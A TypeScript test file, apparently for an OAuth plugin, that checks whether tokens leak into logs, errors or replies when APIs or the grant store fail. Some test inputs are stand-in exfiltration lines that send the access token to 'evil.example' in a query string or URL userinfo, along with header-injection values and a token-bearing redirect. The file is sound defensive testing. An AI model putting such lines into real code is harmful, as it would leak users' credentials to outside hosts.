// A40: calls of an API and of the store that fail: no token reaches a log line, an error or a reply.
import { setTimeout as delay } from 'node:timers/promises'
import t from 'tap'
import { MemoryGrantStore } from '../../lib/index.js'
import { leaksIn, printed, secretsOf, watch } from '../fixtures/canaries.js'
import type { WireHandler } from '../fixtures/wire-provider.js'

t.setTimeout(240_000)

const api = { accept: 'application/json' }

t.test('A40: calls of an API that fail', async (t) => {
  const { scene, browser, finish } = await watch(t)
  const user = browser()
  await scene.login(user)
  const answers: Record<string, WireHandler> = {
    'a 401 that repeats the header': ({ headers }) => ({ status: 401, headers: { 'www-authenticate': String(headers.authorization) }, body: { error: headers.authorization } }),
    'a 500 that repeats the header': ({ headers }) => ({ status: 500, body: { error: headers.authorization } }),
    'a redirect elsewhere': ({ headers }) => ({ status: 302, headers: { location: `http://127.0.0.1:9/?token=${headers.authorization?.replace('Bearer ', '')}` } }),
    'a connection that is reset': (_request, response) => { response.destroy(); return undefined },
    'no HTTP': ({ headers }, response) => { response.socket?.write(`${headers.authorization}\r\n\r\n`); setTimeout(() => response.destroy(), 20); return undefined },
    'a header that is none': ({ headers }, response) => { response.socket?.write(`HTTP/1.1 200 OK\r\nx-header: ${headers.authorization}\u0000\r\n\r\n`); setTimeout(() => response.destroy(), 20); return undefined }
  }
  scene.provider.on('/token', ({ form }) => form.get('grant_type') === 'refresh_token' ? { status: 400, body: { error: 'invalid_grant', error_description: form.get('refresh_token') } } : undefined)
  for (const [name, handler] of Object.entries(answers)) {
    scene.provider.on('/api', handler)
    for (const path of ['/call', '/strict', '/fetch']) {
      const { status } = await user.request(`${scene.url}${path}`, { headers: api })
      t.ok(status >= 200, `${path}: ${name}`)
    }
  }
  finish(t, { errors: 10 })
})

t.test('A40: calls that are not made', async (t) => {
  const errors: unknown[] = []
  const { scene, browser, finish } = await watch(t, {
    app: {
      routes (app) {
        app.get('/wrong', { config: { oauth: 'test' } }, async ({ oauth, log }) => {
          const token = String(oauth.grant?.accessToken)
          const attempts = [
            () => oauth.get(`https://evil.example/?access_token=${token}`), () => oauth.get(`https://user:${token}@evil.example/`), () => oauth.get(`http://[${token}`), () => oauth.get('/api', { headers: { [`x-${token}\n`]: 'x' } }), () => oauth.get('/api', { headers: { 'x-header': `${token}\n` } }),
            () => oauth.post('/api', { json: { token }, form: { token } }), () => oauth.request(`GET ${token}`, '/api'), () => oauth.fetch(`https://evil.example/?access_token=${token}`), () => oauth.get('/api', { signal: AbortSignal.abort() }), () => oauth.get('/api', { timeout: 1 }),
            () => oauth.use(token), () => oauth.use('test', { account: token }).get('/api'), () => app.oauth.client('test', { owner: token }).get('/api')
          ]
          for (const attempt of attempts) {
            try {
              await attempt()
            } catch (error) {
              // The name of a provider that there is not is quoted: whoever writes a token there shows it himself.
              if (!String(error).includes('FST_OAUTH_UNKNOWN_PROVIDER') && !String(error).includes('No provider is registered')) {
                errors.push(error)
                log.error({ err: error }, 'not made')
              }
            }
          }
          return errors.length
        })
      }
    }
  })
  const user = browser()
  await scene.login(user)
  scene.provider.on('/api', async () => { await delay(100); return undefined })
  await user.request(`${scene.url}/wrong`, { headers: api })
  t.ok(errors.length >= 9, `${errors.length} errors`)
  t.strictSame(leaksIn('error', errors.flatMap(printed), secretsOf(scene)), [])
  finish(t, { errors: 0 })
})

t.test('A40: a store that fails, and rows that do not open', async (t) => {
  const broken = new Map<string, unknown>()
  class BrokenStore extends MemoryGrantStore {
    override async put (...args: Parameters<MemoryGrantStore['put']>): Promise<boolean> {
      if (broken.has('put')) throw Object.assign(new Error('write failed'), { command: { args } })
      return super.put(...args)
    }

    override async list (...args: Parameters<MemoryGrantStore['list']>): ReturnType<MemoryGrantStore['list']> {
      if (broken.has('list')) throw Object.assign(new Error('read failed'), { args })
      const rows = await super.list(...args)
      return broken.has('rows') ? rows.map(row => ({ ...row, owner: 'another' })) : rows
    }
  }
  const { scene, browser, finish } = await watch(t, { plugin: { store: new BrokenStore() } })
  for (const fault of ['put', 'list', 'rows']) {
    // A logout ends the session whatever the store does.
    const user = browser()
    await scene.login(user)
    broken.set(fault, true)
    const another = browser()
    await another.request(await scene.callback(another), { headers: api })
    await user.request(`${scene.url}/call`, { headers: api })
    await user.request(`${scene.url}/oauth/test/logout`, { method: 'POST', headers: api })
    broken.delete(fault)
  }
  finish(t, { errors: 3 })
})
